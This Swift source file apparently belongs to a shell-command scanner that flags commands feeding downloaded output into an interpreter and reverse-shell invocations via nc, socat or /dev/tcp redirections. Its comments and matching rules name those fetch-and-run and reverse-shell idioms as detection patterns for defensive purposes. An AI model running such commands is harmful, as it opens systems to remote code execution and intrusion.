import ShellSyntax

/// Checks that follow output into a program that runs it.
extension CommandScan {
    private static let interpreters: Set<String> = [
        "perl", "ruby", "node", "nodejs", "php", "lua", "deno", "bun", "osascript",
    ]

    private static func isInterpreter(_ name: String) -> Bool {
        ShellKind(name) != nil || interpreters.contains(name) || name.hasPrefix("python")
    }

    /// Whether a command runs as a program what one of these programs prints.
    func runsOutput(of origin: OutputOrigin, _ command: FoundCommand) -> Match {
        guard let place = command.place, let name = command.name else { return .no }
        let printing = texts[place.text].printing[origin] ?? []
        let runsArguments = name == "eval" || name == "source" || name == "."
        guard Self.isInterpreter(name) || runsArguments else { return .no }
        // `sh -c "$(curl ...)"`, `bash <(curl ...)`, `. <(curl ...)`, `bash <<< "$(curl ...)"`
        let inputs = command.redirections.filter { redirection in
            switch redirection.operator {
            case .read, .string, .document, .documentStripped, .readWrite: true
            case .write, .append, .clobber, .duplicateInput, .duplicateOutput, .both, .appendBoth: false
            }
        }
        for value in programWords(name, command) + inputs.map(\.target) {
            for range in value.sources where range.contains(where: { printing.contains($0) }) { return .yes }
        }
        guard !runsArguments, readsProgram(name, command) else { return .no }
        return texts[place.text].isFed(place.index, by: origin) ? .yes : .no
    }

    /// The words that are a program or name one: the text of `-c` and `-e`, else the first operand.
    private func programWords(_ name: String, _ command: FoundCommand) -> [ShellValue] {
        let words = Array(command.words.dropFirst())
        if name == "eval" { return words }
        var index = 0
        while index < words.count, let text = words[index].literal, text.hasPrefix("-") {
            index += 1
            if ["-o", "-O", "+o", "-m", "-W", "-X"].contains(text) { index += 1 }
        }
        return index < words.count ? [words[index]] : []
    }

    /// Whether an interpreter takes its program from its standard input: no text and no script are named.
    private func readsProgram(_ name: String, _ command: FoundCommand) -> Bool {
        var words = command.words.dropFirst()[...]
        while let text = words.first?.literal, text.hasPrefix("-") || text.hasPrefix("+"), text != "-" {
            if ShellKind(name) != nil, ShellBuiltins.isLongOption(text) {
                words = words.dropFirst(text == "-rcfile" || text == "-init-file" ? 2 : 1)
                continue
            }
            if text == "-s" || ShellKind(name) != nil && !text.hasPrefix("--") && text.contains("s") { return true }
            if !text.hasPrefix("--"), text.contains("c") { return false }
            if ShellKind(name) == nil, ["-m", "-e", "-p", "-n", "-ne", "-pe", "-r", "-le", "-lne"].contains(text) {
                return false
            }
            words = words.dropFirst(
                text == "-o" || text == "-O" || text == "+o" || text == "-W" || text == "-X" ? 2 : 1)
        }
        guard let operand = words.first else { return true }
        return operand.literal == "-" || operand.literal.map(ShellBuiltins.isStandardInput) ?? false
    }

    /// `nc -e sh`, `bash -i >& /dev/tcp/host/port 0>&1` and what is like it.
    func reverseShell(_ command: FoundCommand) -> Match {
        guard let name = command.name else { return .no }
        let words = command.words.dropFirst()
        switch name {
        case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
            let runs = words.contains { word in
                guard let text = word.literal, text.hasPrefix("-") else { return false }
                if text.hasPrefix("--") { return text.hasPrefix("--exec") || text.hasPrefix("--sh-exec") }
                return text.contains("e") || text.contains("c")
            }
            return runs ? .yes : .no
        case "socat":
            let runs = words.contains { word in
                let text = word.prefix.lowercased()
                return text.hasPrefix("exec:") || text.hasPrefix("system:") || text.hasPrefix("shell:")
            }
            return runs ? .yes : .no
        default: break
        }
        guard Self.isInterpreter(name) || name == "exec" else { return .no }
        var redirections = command.redirections
        if let place = command.place { redirections += texts[place.text].invocations[place.index].outerRedirections }
        let connects = redirections.contains { redirection in
            let path = redirection.target.prefix
            return path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/")
        }
        return connects ? .yes : .no
    }
}
